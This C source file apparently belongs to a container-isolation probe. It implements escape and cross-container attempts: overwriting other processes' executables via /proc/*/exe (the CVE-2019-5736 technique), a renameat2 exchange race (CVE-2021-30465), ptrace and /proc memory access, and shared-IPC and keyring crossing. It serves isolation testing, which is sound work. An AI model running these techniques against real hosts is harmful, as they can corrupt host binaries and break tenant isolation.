/* The probe's attacks: what a container does that wants out of it, or into another. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "probe.h"

#define OPEN_MAX_KEPT 64

static long now_ms(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

/* Opens the program files of all other processes that are not this one's, and tries to write to each until the time is up (CVE-2019-5736). */
static void hijack(long ms)
{
	struct stat own, st;
	int kept[OPEN_MAX_KEPT], count = 0, written = 0;
	/* Never outside a container: what it would overwrite there is the machine's. */
	if (getpid() != 1)
		exit(98);
	stat("/proc/self/exe", &own);
	begin("ready");
	end(true);
	for (long until = now_ms() + ms; now_ms() < until && !written;) {
		DIR *d = opendir("/proc");
		for (struct dirent *e; d && (e = readdir(d));) {
			char path[300];
			snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
			if (e->d_name[0] < '1' || e->d_name[0] > '9' || count == OPEN_MAX_KEPT)
				continue;
			int fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd >= 0 && fstat(fd, &st) == 0 && (st.st_dev != own.st_dev || st.st_ino != own.st_ino))
				kept[count++] = fd;
			else if (fd >= 0)
				close(fd);
		}
		if (d)
			closedir(d);
		for (int i = 0; i < count; i++) {
			char path[64];
			snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
			int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
			if (fd >= 0 && written == 0)
				written = write(fd, "overwritten\n", 12) == 12;
			if (fd >= 0)
				close(fd);
		}
	}
	begin("hijack");
	printf(",\"opened\":%d,\"written\":%d", count, written);
	end(true);
}

/* Exchanges two names, as often as there is time for: what is a directory now is a link the next moment (CVE-2021-30465). */
static void swap(const char *a, const char *b, long ms)
{
	long count = 0;
	begin("ready");
	end(true);
	for (long until = now_ms() + ms; now_ms() < until; count++) {
		for (int i = 0; i < 100; i++)
			syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
	}
	begin("swap");
	printf(",\"count\":%ld", count);
	end(true);
}

static void reach(pid_t pid)
{
	char path[64], target[64];
	struct iovec here = { target, 1 }, there = { (void *)(uintptr_t)0x400000, 1 };
	snprintf(path, sizeof path, "/proc/%d/root", pid);
	begin("root");
	end(readlink(path, target, sizeof target) > 0);
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	begin("mem");
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	end(fd >= 0);
	begin("vm");
	/* EFAULT: it may, and there is nothing at that place. */
	end(process_vm_readv(pid, &here, 1, &there, 1, 0) >= 0 || errno == EFAULT);
	begin("kill");
	end(kill(pid, 0) == 0);
	begin("ptrace");
	bool traced = ptrace(PTRACE_ATTACH, pid, NULL, NULL) == 0;
	end(traced);
	if (traced) {
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
}

static socklen_t abstract(struct sockaddr_un *a, const char *name)
{
	*a = (struct sockaddr_un){ .sun_family = AF_UNIX };
	snprintf(a->sun_path + 1, sizeof a->sun_path - 1, "%s", name);
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
}

static void talk(const char *op, const char *name)
{
	struct sockaddr_un a;
	socklen_t len = abstract(&a, name);
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	begin(op);
	/* A listener stays open until the program ends. */
	end(fd >= 0 && (*op == 'l' ? bind(fd, (struct sockaddr *)&a, len) == 0 && listen(fd, 1) == 0 : connect(fd, (struct sockaddr *)&a, len) == 0));
}

bool attack_operation(const char *op)
{
	if (!strcmp(op, "hijack")) {
		hijack(next_number());
	} else if (!strcmp(op, "swap")) {
		const char *a = next(), *b = next();
		swap(a, b, next_number());
	} else if (!strcmp(op, "reach")) {
		reach((pid_t)next_number());
	} else if (!strcmp(op, "listen") || !strcmp(op, "connect")) {
		talk(op, next());
	} else if (!strcmp(op, "shm-make") || !strcmp(op, "shm-find")) {
		key_t key = (key_t)next_number();
		begin(op);
		end(shmget(key, 4096, op[4] == 'm' ? IPC_CREAT | 0666 : 0) >= 0);
	} else if (!strcmp(op, "mq-make") || !strcmp(op, "mq-find")) {
		const char *name = next();
		begin(op);
		end(syscall(SYS_mq_open, name, O_RDWR | O_CLOEXEC | (op[3] == 'm' ? O_CREAT : 0), 0666, NULL) >= 0);
	} else if (!strcmp(op, "key-make")) {
		const char *name = next();
		begin(op);
		end(syscall(SYS_add_key, "user", name, "secret", 6, -4 /* KEY_SPEC_USER_KEYRING */) >= 0);
	} else if (!strcmp(op, "key-find")) {
		const char *name = next();
		begin(op);
		end(syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, -4, "user", name, 0) >= 0);
	} else {
		return false;
	}
	return true;
}
